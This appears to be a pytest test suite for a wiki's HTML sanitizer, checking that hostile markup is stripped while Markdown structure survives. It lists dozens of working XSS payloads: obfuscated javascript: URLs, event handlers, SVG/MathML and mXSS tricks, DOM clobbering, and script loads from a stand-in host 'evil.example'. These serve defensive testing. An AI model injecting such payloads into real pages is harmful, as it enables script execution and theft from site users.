"""Tests for wiki.render.sanitize, the one HTML sanitizer of Bocage.

Safety assertions parse the *output* with the stdlib html.parser (independent
of bleach/html5lib) and check it against allowlists written out here, so that
a careless change to the module's own constants does not weaken the tests.
"""
import html
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import mistune
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mistune.toc import add_toc_hook

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:  # the project is not installed in the venv
    sys.path.insert(0, str(ROOT))

from wiki.render import sanitize as mod  # noqa: E402
from wiki.render.sanitize import is_safe_url, sanitize, sanitize_text_line  # noqa: E402

TAGS = set(
    "p br hr h1 h2 h3 h4 h5 h6 strong b em i u s del ins mark small sub sup code"
    " pre kbd abbr blockquote q cite ul ol li dl dt dd table thead tbody tfoot tr"
    " th td caption a img figure figcaption details summary div span section nav"
    " input".split())
IDC = {"id", "class"}
ATTRS = {
    "a": {"href", "title", "class", "id", "rel"},
    "img": {"src", "alt", "title", "width", "height", "loading"},
    "th": {"align", "colspan", "rowspan"}, "td": {"align", "colspan", "rowspan"},
    "ol": IDC | {"start"}, "li": IDC, "abbr": {"title"},
    "input": {"type", "disabled", "checked", "class"},
    "code": {"class"}, "pre": {"class"},
    **{t: IDC for t in "h1 h2 h3 h4 h5 h6 section div span sup p nav ul".split()},
}
RESERVED_IDS = {"location", "cookie", "forms", "body", "head", "domain", "images",
                "links", "scripts", "document", "window"}


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements, self.comments, self.decls, self.text = [], [], [], []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.decls.append(decl)

    handle_pi = unknown_decl = handle_decl

    def handle_data(self, data):
        self.text.append(data)


def parse(out):
    p = _Collect()
    p.feed(out)
    p.close()
    return p


def url_scheme(value):
    """Independent scheme extraction: decode entities, drop blanks/controls, lower."""
    s = value
    for _ in range(3):
        s = html.unescape(s)
    s = re.sub(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028-\u202f\ufeff\ufffd]", "", s).lower()
    head = re.split(r"[/?#]", s, maxsplit=1)[0]
    return head.split(":", 1)[0] if ":" in head else ""


def assert_safe(out):
    assert "<script" not in out.lower()
    assert "<style" not in out.lower()
    doc = parse(out)
    assert not doc.comments and not doc.decls
    for tag, attrs in doc.elements:
        assert tag in TAGS, (tag, out)
        for name, value in attrs:
            value = value or ""
            assert not name.startswith("on"), (name, out)
            assert name in ATTRS.get(tag, ()), (tag, name, out)
            if name == "href":
                assert url_scheme(value) in {"", "http", "https", "mailto", "tel"}, out
            if name == "src":
                assert url_scheme(value) in {"", "http", "https"}, out
            if name == "id":
                assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_-]{0,80}", value), out
                assert value.lower() not in RESERVED_IDS, out
            if name not in ("title", "alt"):
                assert "javascript:" not in re.sub(r"\s", "", html.unescape(value)).lower()
        if tag == "input":
            assert dict(attrs).get("type") == "checkbox" and "disabled" in dict(attrs), out


HOSTILE = [
    # script in all forms
    ("<script>alert(1)</script>", ["alert"]),
    ("<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>", ["evil"]),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", []),
    ("<p>ok<script>alert(1)", ["alert"]),
    ('<script/xss src="http://evil.example/x.js"></script>', ["evil"]),
    ("<<script>alert(1);//<</script>", ["alert"]),
    ("<table><script>alert(1)</script><tr><td>x</td></tr></table>", ["alert"]),
    # event handlers
    ("<img src=x onerror=alert(1)>", []),
    ('<a onmouseover="alert(1)" href="/x">x</a>', []),
    ("<body onload=alert(1)>hi", []),
    ("<div onclick=alert(1) ONCLICK=x OnFocus=y>d</div>", []),
    ("<details open ontoggle=alert(1)><summary>s</summary></details>", []),
    ("<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>", []),
    ("<marquee onstart=alert(1)>m</marquee>", []),
    # javascript:/data:/vbscript: and their obfuscations
    ('<a href="javascript:alert(1)">x</a>', []),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', []),
    ('<a href="&#106;avascript:alert(1)">x</a>', []),
    ('<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>', []),
    ('<a href="&#0000106&#0000097vascript:alert(1)">x</a>', []),
    ('<a href="java\tscript:alert(1)">x</a>', []),
    ('<a href="java&#9;script:alert(1)">x</a>', []),
    ('<a href="jav&#x0D;ascript:alert(1)">x</a>', []),
    ('<a href="java\nscript:alert(1)">x</a>', []),
    ('<a href=" \x01\x02javascript:alert(1)">x</a>', []),
    ('<a href="&#x20;javascript:alert(1)">x</a>', []),
    ('<a href="&Tab;javascript:alert(1)">x</a>', []),
    ('<a href="javascript&colon;alert(1)">x</a>', []),
    ('<a href="javas&#99;ript:alert(1)">x</a>', []),
    ('<a href="javascript\x00:alert(1)">x</a>', []),
    ('<a href="&amp;#106;avascript:alert(1)">x</a>', []),
    ('<a href="vbscript:msgbox(1)">x</a>', []),
    ('<a href="VBScript&#58;msgbox(1)">x</a>', []),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', []),
    ('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', []),
    ('<img src="javascript:alert(1)">', []),
    ('<img src="mailto:a@example.org">', []),
    ('<a href="file:///etc/passwd">x</a>', []),
    ("<img src=x:alert(1) onerror=eval(src)>", []),
    ('<img srcset="javascript:alert(1)">', []),
    # SVG / MathML
    ("<svg onload=alert(1)>", []),
    ("<svg><script>alert(1)</script></svg>", ["alert"]),
    ('<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>', []),
    ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", []),
    ('<math href="javascript:alert(1)">CLICKME</math>', []),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", []),
    # style tricks
    ("<style>@import 'http://evil.example/x.css';</style>", ["@import", "evil"]),
    ('<p style="background:url(javascript:alert(1))">p</p>', []),
    ('<div style="width: expression(alert(1))">d</div>', ["expression"]),
    # dangerous embedding elements
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', []),
    ('<iframe src="javascript:alert(1)"></iframe>', []),
    ('<object data="javascript:alert(1)"></object>', []),
    ('<embed src="data:text/html,<script>alert(1)</script>">', []),
    ('<form action="javascript:alert(1)"><input type=submit></form>', []),
    ('<button formaction="javascript:alert(1)">x</button>', []),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', []),
    ('<base href="javascript:alert(1)//">', []),
    ('<link rel=stylesheet href="http://evil.example/x.css">', []),
    ("<select><option>o</option></select><textarea>t</textarea>", []),
    # malformed and nested
    ('<a href="<script>alert(1)</script>">x</a>', []),
    ("<<img src=x onerror=alert(1)>>", []),
    ('<img src="x onerror=alert(1)', []),
    ("<img src=x onerror='alert(1)", []),
    ('<img """><script>alert(1)</script>">', ["alert"]),
    ('<a href="/x"<script>alert(1)</script>>x</a>', []),
    # comment tricks
    ("<!--><script>alert(1)</script>-->", ["alert"]),
    ("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", []),
    ("<![CDATA[<script>alert(1)</script>]]>", []),
    ("<!-- --!><img src=x onerror=alert(1)> -->", []),
    # mXSS-style nesting
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', []),
    ("<template><script>alert(1)</script></template>", ["alert"]),
    ("<textarea><script>alert(1)</script></textarea>", ["alert"]),
    ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", []),
    ("<xmp><img src=x onerror=alert(1)></xmp><plaintext><b>", []),
    # DOM clobbering
    ('<p id="location">x</p><img name="cookie" src="/a.png">', ["location", "cookie"]),
    ('<div id="__proto__">x</div><span id="forms">y</span><h2 id="Body">z</h2>', ["proto", "forms", "Body"]),
    ('<a id="x" name="y" href="#a">x</a><form name=images></form>', ["images"]),
    # inputs
    ("<input type=text value=x>", ["<input"]),
    ("<input value=x>", ["<input"]),
    ("<input type=checkbox onclick=alert(1)>", []),
    ("<input type=hidden name=csrf value=1><input type=image src=javascript:alert(1)>", ["<input"]),
]


@pytest.mark.parametrize("source,forbidden", HOSTILE, ids=[h[0][:50] for h in HOSTILE])
def test_hostile_inputs(source, forbidden):
    out = sanitize(source)
    assert_safe(out)
    for needle in forbidden:
        assert needle not in out, (needle, out)
    assert sanitize(out) == out


def test_hostile_table_is_large_enough():
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JAVASCRIPT:x", " javascript:x", "\x00javascript:x",
    "java\tscript:x", "java\r\nscript:x", "&#106;avascript:x", "&#x6a;avascript:x",
    "javascript&colon;x", "vbscript:x", "data:text/html,x", "file:///etc/passwd",
    "jar:http://x!/", "ftp://example.org", "about:blank", "blob:https://x/1",
])
def test_is_safe_url_refuses(url):
    assert not is_safe_url(url)
    assert not is_safe_url(url, for_image=True)


@pytest.mark.parametrize("url,link,image", [
    ("https://example.org/a?b=1&amp;c=2", True, True), ("http://example.org", True, True),
    ("/wiki/p/files/a.png", True, True), ("page", True, True), ("../x", True, True),
    ("?q=1", True, True), ("#fn-1", True, True), ("//cdn.example/x.png", True, True),
    ("mailto:maire@example.fr", True, False), ("tel:+33123456789", True, False),
    ("data:image/png;base64,AAAA", False, False), (None, False, False),
])
def test_is_safe_url_allows(url, link, image):
    assert is_safe_url(url) is link
    assert is_safe_url(url, for_image=True) is image


MARKDOWN = """# Titre principal

Du texte avec ~~barré~~, une note[^1], https://example.org/auto et [la mairie](/wiki/mairie).

| Gauche | Centre | Droite |
|:-------|:------:|-------:|
| a      | b      | c      |

- [x] fait
- [ ] à faire

```python
print("<b>hi</b>")
```

[^1]: La note.
"""


def render_markdown(text):
    md = mistune.create_markdown(
        plugins=["table", "strikethrough", "footnotes", "task_lists", "url"])
    add_toc_hook(md)
    return md(text)


def test_markdown_structure_survives():
    out = sanitize(render_markdown(MARKDOWN))
    assert_safe(out)
    assert sanitize(out) == out
    els = [(t, dict(a)) for t, a in parse(out).elements]
    tags = [t for t, _ in els]
    for tag in ("h1", "del", "table", "thead", "tbody", "th", "td", "ul", "li",
                "input", "pre", "code", "sup", "section", "ol"):
        assert tag in tags, tag
    assert ("h1", {"id": "toc_1"}) in els
    assert [a.get("align") for t, a in els if t == "th"] == ["left", "center", "right"]
    assert all("style" not in a for _, a in els)
    boxes = [a for t, a in els if t == "input"]
    assert len(boxes) == 2 and all(b["type"] == "checkbox" and "disabled" in b for b in boxes)
    assert ["checked" in b for b in boxes] == [True, False]
    assert ("li", {"class": "task-list-item"}) in els
    assert ("code", {"class": "language-python"}) in els
    assert ("sup", {"class": "footnote-ref", "id": "fnref-1"}) in els
    assert ("section", {"class": "footnotes"}) in els
    assert ("li", {"id": "fn-1"}) in els
    assert ("a", {"href": "#fn-1"}) in els
    assert ("a", {"href": "/wiki/mairie"}) in els
    assert ("a", {"class": "footnote", "href": "#fnref-1"}) in els
    assert ("a", {"class": "external", "href": "https://example.org/auto",
                  "rel": "nofollow ugc noopener"}) in els
    assert "print(&quot;&lt;b&gt;hi&lt;/b&gt;&quot;)" in out


def test_wikilink_classes_and_image_kept():
    out = sanitize('<a class="wikilink missing" href="/wiki/foo">Foo</a>')
    assert out == '<a class="wikilink missing" href="/wiki/foo">Foo</a>'
    out = sanitize('<img src="/wiki/p/files/a.png" alt="x">')
    assert out == '<img alt="x" src="/wiki/p/files/a.png">'


def test_classes_filtered_and_extendable():
    src = '<span class="notice evil  language-c++ notice">x</span>'
    assert sanitize(src) == '<span class="notice language-c++">x</span>'
    mod.ALLOWED_CLASSES.add("bocage-map")
    try:
        assert sanitize('<div class="bocage-map">m</div>') == '<div class="bocage-map">m</div>'
    finally:
        mod.ALLOWED_CLASSES.discard("bocage-map")
    assert sanitize('<div class="bocage-map">m</div>') == "<div>m</div>"


def test_links_rel_and_protocol_relative():
    assert sanitize('<a href="/wiki/x" rel="opener">x</a>') == '<a href="/wiki/x">x</a>'
    assert sanitize('<a href="mailto:a@example.fr">m</a>') == '<a href="mailto:a@example.fr">m</a>'
    assert sanitize('<a href="//evil.example/p">e</a>') == (
        '<a class="external" href="https://evil.example/p" rel="nofollow ugc noopener">e</a>')
    assert sanitize('<a href="/\\evil.example">e</a>').count('href="https://evil.example"') == 1
    assert sanitize('<img src="//cdn.example/a.png">') == '<img src="https://cdn.example/a.png">'
    assert sanitize('<a href="javascript:alert(1)" title="t">texte</a>') == '<a title="t">texte</a>'


def test_attribute_values_checked():
    out = sanitize('<img src="/a.png" width="100" height="10px" loading="lazy">'
                   '<ol start="3" reversed><li>x</li></ol>'
                   '<table><tr><td colspan="2" rowspan="x" align="justify">c</td></tr></table>')
    assert '<img height' not in out and 'width="100"' in out and 'loading="lazy"' in out
    assert '<ol start="3">' in out and 'colspan="2"' in out
    assert "rowspan" not in out and "justify" not in out


def test_script_and_style_content_removed_entirely():
    assert sanitize("<style>body{display:none}</style><p>ok</p>") == "<p>ok</p>"
    assert sanitize("a<script>var x = '<b>';</script>b") == "ab"


def test_pre_leading_newline_preserved():
    out = sanitize("<pre>\n\nfoo</pre>")
    assert out == "<pre>\n\nfoo</pre>" and sanitize(out) == out


@pytest.mark.parametrize("source", [
    "<a href=x><table><a href=x>",          # foster-parented nested links
    "<li><table><li>x<nav>",                # foster-parented list items
    "<table><dd></p>x<img <table><dd>",
    "<table><td><pre>\n<div>x",              # html5lib keeps <pre>'s newline in cells
    "<pre>\r\n\nx</pre>",
    "a\x0c<b>b</b>\x0c",                     # form feed in whitespace-only text
])
def test_idempotence_regressions(source):
    out = sanitize(source)
    assert_safe(out)
    assert sanitize(out) == out


def test_sanitize_text_line():
    assert sanitize_text_line("  Le\tbourg\r\nde\x00 Saint-Jean\u202e ") == "Le bourg de Saint-Jean"
    assert sanitize_text_line("a < b & c\xa0:") == "a < b & c\xa0:"
    assert sanitize_text_line("") == "" and sanitize_text_line(None) == ""


def test_empty_and_type():
    assert sanitize("") == ""
    with pytest.raises(TypeError):
        sanitize(b"<p>x</p>")


def test_no_flask_or_peewee_import():
    # Loaded by path: the `wiki` package itself imports the Flask app.
    code = ("import importlib.util, sys; "
            "spec = importlib.util.spec_from_file_location('bocage_sanitize', sys.argv[1]); "
            "m = importlib.util.module_from_spec(spec); spec.loader.exec_module(m); "
            "assert m.sanitize('<b>x</b>') == '<b>x</b>'; "
            "bad = {'flask', 'peewee'} & set(sys.modules); assert not bad, bad")
    subprocess.run([sys.executable, "-c", code, str(ROOT / "wiki/render/sanitize.py")],
                   check=True)


def test_is_safe_id():
    assert mod.is_safe_id("toc_1") and mod.is_safe_id("fnref-1") and mod.is_safe_id("2024-fete")
    for bad in ("location", "Cookie", "__proto__", "-x", "a b", "a" * 82, "x:y", ""):
        assert not mod.is_safe_id(bad), bad


FRAGMENTS = [
    "<script>", "</script>", "<style>", "</style>", "<a ", "<img ", "<svg ", "<math>",
    "<iframe ", "<input ", "<pre>", "<table>", "<td>", "<tr>", "<p>", "<li>", "<ul>",
    "<noscript>", "<template>", "<textarea>", "<title>", "<div ", "<form>", "</a>",
    "</p>", "</svg>", "<!--", "-->", "<![CDATA[", "]]>", "<!", "<?", "</", "<", ">", "/>",
    "href=", "src=", "onerror=", "onclick=", "style=", "id=", "class=", "type=checkbox",
    "type=text", "xlink:href=", "name=", '"', "'", "=", " ", "\n", "\t", "\x00",
    "javascript:", "java\tscript:", "&#106;", "&#x6A;", "&colon;", "&amp;", "&", "&lt;",
    "data:", "vbscript:", "//evil.example", "alert(1)", "location", "external",
    "wikilink", "language-py", "x", "/wiki/a", "#fn-1", "https://example.org",
]


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=40)
       .map("".join))
def test_fuzz_html_ish(source):
    out = sanitize(source)
    assert_safe(out)
    assert sanitize(out) == out


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_fuzz_text(source):
    out = sanitize(source)
    assert_safe(out)
    assert sanitize(out) == out
